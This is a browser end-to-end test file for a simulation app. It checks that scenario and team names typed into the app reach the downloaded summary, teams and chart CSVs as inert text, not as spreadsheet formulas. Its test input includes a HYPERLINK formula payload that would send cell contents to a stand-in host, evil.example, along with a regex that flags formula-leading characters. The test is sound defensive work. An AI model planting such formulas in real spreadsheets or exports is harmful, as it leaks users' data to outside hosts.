import { readFileSync } from 'node:fs';
import { csvParse } from 'd3';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { newPage, pageErrors, withBuiltApp } from './harness.ts';

/**
 * CSV formula injection through the real app (issue 14, security): a scenario named
 * =HYPERLINK(…) and a team named @SUM(1+1), typed into the editor, reach every CSV the user
 * downloads as text, never as a formula. The rule itself is unit-tested in test/ui/csv.test.ts.
 */
const app = withBuiltApp();
const EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const EVIL_TEAM = '@SUM(1+1)';

/** Opens every collapsed section (details) around a field, as a user clicking their summaries would. */
async function reveal(page: Page, selector: string): Promise<void> {
  const closed = page.locator('details:not([open])', { has: page.locator(selector) });
  while ((await closed.count()) > 0) await closed.first().locator(':scope > summary').click();
}

async function download(page: Page, button: RegExp): Promise<Record<string, string | undefined>[]> {
  const [d] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: button }).first().click()]);
  const text = readFileSync(await d.path(), 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  return csvParse(text.slice(1));
}

describe('CSV downloads in Chromium', () => {
  it('a formula typed as a scenario or team name is neutralised in the summary, teams and chart CSVs', async () => {
    const { context, page } = await newPage(app.browser);
    await page.goto(app.url);
    await page.locator('#section-about > summary').click();
    await page.locator('#field-name').fill(EVIL_NAME);
    await reveal(page, '#field-dutyTeams-0-name');
    await page.locator('#field-dutyTeams-0-name').fill(EVIL_TEAM);
    await page.fill('#run-reps', '2');
    await page.fill('#run-days', '40');
    await page.fill('#run-warmupDays', '0');
    await page.getByRole('button', { name: 'Run simulation', exact: true }).click();
    await page.locator('[data-run-status="done"]').waitFor({ timeout: 90_000 });

    const summary = await download(page, /^Download summary \(CSV\)$/);
    expect(new Set(summary.map((r) => r.scenario))).toEqual(new Set([`'${EVIL_NAME}`]));
    const teams = await download(page, /^Duty teams \(CSV\)$/);
    expect(teams.map((r) => r.team)).toContain(`'${EVIL_TEAM}`);
    const chart = await download(page, /^Download data \(CSV\)/);
    for (const rows of [summary, teams, chart]) {
      const formulas = rows.flatMap((r) => Object.values(r)).filter((c) => /^[=+@\t\r]/.test(c ?? '') || /^-[^\d.]/.test(c ?? ''));
      expect(formulas).toEqual([]);
    }
    expect(pageErrors(page)).toEqual([]);
    await context.close();
  });
});
